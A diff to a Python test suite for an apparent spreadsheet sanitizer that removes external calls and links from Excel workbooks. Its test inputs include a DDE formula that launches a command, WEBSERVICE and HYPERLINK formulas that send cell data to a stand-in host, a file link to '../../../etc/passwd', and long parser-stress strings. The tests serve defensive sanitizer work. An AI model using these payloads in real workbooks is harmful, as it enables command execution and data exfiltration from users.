@@ -2,6 +2,7 @@
 
 from io import BytesIO
 from pathlib import Path
+from time import process_time
 
 import pytest
 import xlsxwriter
@@ -12,7 +13,12 @@ from addin.functions.workbooks.freezing import freeze, natives
 from addin.ooxml.package import open_package
 from addin.ooxml.sheet.editing.workbook import open_workbook
 from addin.ooxml.sheet.leaving.inspecting import scan
-from addin.ooxml.sheet.references.calls import foreign_functions, replace_calls
+from addin.ooxml.sheet.references.calls import (
+    Own,
+    foreign_functions,
+    names_outside,
+    replace_calls,
+)
 
 _CAGR = natives()["CAGR"]("A1", "B1", "C1")
 
@@ -159,7 +165,7 @@ def test_other_functions_can_be_given_a_plain_form(book: Path, tmp_path: Path) -
 def test_native_functions_are_not_taken_for_foreign_ones() -> None:
     formula = 'IF(_xlfn.XLOOKUP(1,T[a (b)],"PLAN.X(1)")>0,SUMIFS(A:A,B:B,1),PLAN.GAP(1,2))'
 
-    assert foreign_functions(formula) == ("PLAN.GAP",)
+    assert foreign_functions(formula, Own()) == ("PLAN.GAP",)
 
 
 def test_a_call_is_replaced_with_its_arguments_whole() -> None:
@@ -169,3 +175,128 @@ def test_a_call_is_replaced_with_its_arguments_whole() -> None:
     formula = 'F("a,b",{1,2},F(1,(A1,B2)))+SUM(1,2)'
 
     assert replace_calls(formula, replace) == '("a,b"|{1,2}|(1|(A1,B2)))+SUM(1,2)'
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "cmd|'/c calc'!A0",
+        "'cmd|x'!A0+1",
+        '_xlfn.WEBSERVICE("http://x.org/?"&A1)',
+        'IF(A1>0,_xlfn.IMAGE("http://x.org/a.png"),1)',
+        'HYPERLINK("http://x.org/?q="&A1,"more")',
+        'HYPERLINK(A1,"more")',
+        'hyperlink ("file://server/a.xlsx")',
+        '_xlfn.STOCKHISTORY("MSFT",1)',
+        'CUBEVALUE("ThisWorkbookDataModel","[Measures].[x]")',
+        "_xlfn._xlws.PY(0,1)",
+        '_xlfn.TRANSLATE(A1,"en")',
+        "rate*2",
+        "[1]!total",
+        "Data!A1+[2]Data!B1",
+    ],
+)
+def test_no_live_call_leaves_the_office(tmp_path: Path, formula: str) -> None:
+    path = tmp_path / "in.xlsx"
+    with xlsxwriter.Workbook(str(path)) as made:
+        sheet = made.add_worksheet("Data")
+        made.define_name("address", '=_xlfn.WEBSERVICE("http://x.org")')
+        made.define_name("rate", "=address+1")
+        sheet.write_formula("B1", f"={formula}", None, 7)
+
+    freeze(path, tmp_path / "out.xlsx")
+
+    assert open_workbook(tmp_path / "out.xlsx").value("Data", "B1") == 7
+    assert scan(tmp_path / "out.xlsx").is_clean
+    assert not scan(path).is_clean
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        'HYPERLINK("#Data!A1","top")',
+        'HYPERLINK("#"&A1)',
+        'HYPERLINK("https://example.org/","home")',
+        "'a|b'!A1&\"a|b\"",
+        "T[a|b]",
+        '"[1]!x [2]y"',
+    ],
+)
+def test_what_only_looks_like_a_call_to_outside_stays_live(tmp_path: Path, formula: str) -> None:
+    path = tmp_path / "in.xlsx"
+    with xlsxwriter.Workbook(str(path)) as made:
+        made.add_worksheet("Data").write_formula("B1", f"={formula}", None, 7)
+        made.add_worksheet("a|b")
+
+    freeze(path, tmp_path / "out.xlsx")
+
+    assert open_workbook(tmp_path / "out.xlsx").value("Data", "B1") == CellFormula(formula, 7)
+
+
+def _with_links(path: Path, part: str, links: bytes) -> None:
+    package = open_package(path)
+    rels = package[part].replace(b"</Relationships>", links + b"</Relationships>")
+    path.write_bytes(package.with_parts({part: rels}).to_bytes())
+
+
+def test_a_linked_picture_and_a_link_out_of_the_file_are_cut(tmp_path: Path) -> None:
+    path = tmp_path / "in.xlsx"
+    with xlsxwriter.Workbook(str(path)) as made:
+        sheet = made.add_worksheet("Data")
+        sheet.insert_image("A1", "x.png", {"image_data": BytesIO(_PNG)})
+        sheet.write("B9", 1)
+    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    drawing = open_package(path)
+    name = "xl/drawings/drawing1.xml"
+    linked = drawing[name].replace(b"r:embed=", b"r:link=")
+    path.write_bytes(drawing.with_parts({name: linked}).to_bytes())
+    rels = drawing["xl/drawings/_rels/drawing1.xml.rels"]
+    outside = rels.replace(b"../media/image1.png", b'file:///s/x.png" TargetMode="External')
+    path.write_bytes(
+        open_package(path).with_parts({"xl/drawings/_rels/drawing1.xml.rels": outside}).to_bytes()
+    )
+    _with_links(
+        path,
+        "xl/_rels/workbook.xml.rels",
+        b'<Relationship Id="rId99" Type="%s/theme" Target="../../../etc/passwd"/>' % kind,
+    )
+
+    report = freeze(path, tmp_path / "out.xlsx")
+
+    after = open_package(tmp_path / "out.xlsx")
+    assert [found.rule for found in report.removed].count("F-19") == 2
+    assert b"blip" not in after[name]
+    assert b"etc/passwd" not in after["xl/_rels/workbook.xml.rels"]
+    assert open_workbook(tmp_path / "out.xlsx").value("Data", "B9") == 1
+
+
+_PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63"
+    "6460f85f0f0002870180eb47ba920000000049454e44ae426082"
+)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "A" * 30_000,
+        "?" * 30_000,
+        "[" * 30_000,
+        "'" * 30_001,
+        '"' * 30_001,
+        "{" * 30_000,
+        "A1," * 10_000,
+        "[a[" * 10_000,
+        "A:" * 15_000,
+        "(" * 30_000,
+    ],
+    ids=lambda formula: formula[:3],
+)
+def test_a_formula_that_no_program_wrote_is_read_in_one_pass(formula: str) -> None:
+    started = process_time()
+
+    foreign_functions(formula, Own())
+    names_outside(f"{formula}[|", Own())
+    replace_calls(formula, lambda _, __: "")
+
+    assert process_time() - started < 1.5
